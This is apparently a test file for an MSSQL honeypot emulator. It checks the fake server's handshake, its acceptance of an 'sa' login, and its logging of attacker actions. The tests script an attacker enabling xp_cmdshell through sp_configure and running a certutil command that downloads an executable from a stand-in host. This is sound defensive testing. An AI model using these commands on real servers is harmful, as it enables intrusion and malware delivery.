import { expect, it } from 'vitest';
import { Memory } from '../memory.ts';
import { bodyOf, meet } from '../play.ts';
import { mssql } from './mssql.ts';

const packet = (kind: number, body: Buffer) => {
  const head = Buffer.from([kind, 1, 0, 0, 0, 0, 1, 0]);
  head.writeUInt16BE(body.length + 8, 2);
  return Buffer.concat([head, body]);
};
const greeting = packet(
  18,
  Buffer.from('00001500060100 1b00010200 1c00010300 1d0000 ff0b0000000000 0200'.replaceAll(' ', ''), 'hex'),
);

function login(user: string, secret: string): Buffer {
  const texts: [number, Buffer][] = [
    [36, Buffer.from('PC', 'utf16le')],
    [40, Buffer.from(user, 'utf16le')],
    [
      44,
      Buffer.from(Buffer.from(secret, 'utf16le').map((byte) => (((byte << 4) | (byte >> 4)) & 255) ^ 0xa5)),
    ],
    [48, Buffer.from('tool', 'utf16le')],
    [52, Buffer.alloc(0)],
    [60, Buffer.from('ODBC', 'utf16le')],
    [68, Buffer.alloc(0)],
  ];
  const head = Buffer.alloc(94);
  head.writeUInt32LE(0x74000004, 4);
  let at = 94;
  for (const [offset, bytes] of texts) {
    head.writeUInt16LE(at, offset);
    head.writeUInt16LE(bytes.length / 2, offset + 2);
    at += bytes.length;
  }
  head.writeUInt32LE(at, 0);
  return packet(16, Buffer.concat([head, ...texts.map(([, bytes]) => bytes)]));
}
const batch = (text: string) =>
  packet(
    1,
    Buffer.concat([
      Buffer.from('16000000120000000200000000000000000001000000', 'hex'),
      Buffer.from(text, 'utf16le'),
    ]),
  );
const readable = (answer: string) => Buffer.from(answer, 'latin1').toString('latin1').replaceAll('\0', '');

async function admitted() {
  const memory = new Memory();
  for (let i = 0; i < 4; i++) {
    const talk = meet(mssql, { memory, kind: 'windows-server' });
    await talk.say(greeting);
    const said = await talk.say(login('sa', 'sa123'));
    if (!said.includes('\xad')) {
      expect(readable(said)).toContain("Login failed for user 'sa'.");
      expect(talk.over).toBe(true);
      continue;
    }
    return talk;
  }
  throw new Error('no login worked');
}

it('says its version, and that it does not encrypt', async () => {
  const talk = meet(mssql);
  const said = Buffer.from(await talk.say(greeting), 'latin1');
  expect(said.toString('hex')).toBe(
    '0401002500000100000015000601001b000102001c000103001d0000ff0d00189c00000200',
  );
  await talk.leave();
});

it('lets sa in at last, and has xp_cmdshell switched on', async () => {
  const talk = await admitted();
  expect(readable(await talk.say(batch('SELECT @@version')))).toContain('Microsoft SQL Server 2016 (SP3)');
  expect(readable(await talk.say(batch("EXEC xp_cmdshell 'whoami'")))).toContain(
    "SQL Server blocked access to procedure 'sys.xp_cmdshell'",
  );
  const on = readable(
    await talk.say(
      batch(
        "EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE;",
      ),
    ),
  );
  expect(on).toContain("'xp_cmdshell' changed from 0 to 1");
  expect(readable(await talk.say(batch("exec master..xp_cmdshell 'whoami'")))).toContain(
    'nt service\\mssqlserver',
  );
  await talk.say(batch("exec xp_cmdshell 'certutil -urlcache -f http://192.0.2.9/a.exe a.exe'"));
  await talk.leave();
  expect(talk.faults).toEqual([]);
  const bodies = talk.events.map(bodyOf);
  expect(bodies).toContainEqual({ kind: 'login', user: 'sa', secret: 'sa123', ok: true, method: 'tds' });
  expect(bodies).toContainEqual(
    expect.objectContaining({ kind: 'command', input: 'whoami', ok: true, detail: { how: 'xp_cmdshell' } }),
  );
  expect(bodies).toContainEqual(expect.objectContaining({ kind: 'download', url: 'http://192.0.2.9/a.exe' }));
  expect(bodies).toContainEqual(expect.objectContaining({ kind: 'fingerprint', software: 'tool' }));
});

it('hangs up on what is no TDS', async () => {
  const talk = meet(mssql);
  expect(await talk.say('GET / HTTP/1.1\r\n\r\n')).toBe('');
  expect(talk.over).toBe(true);
});
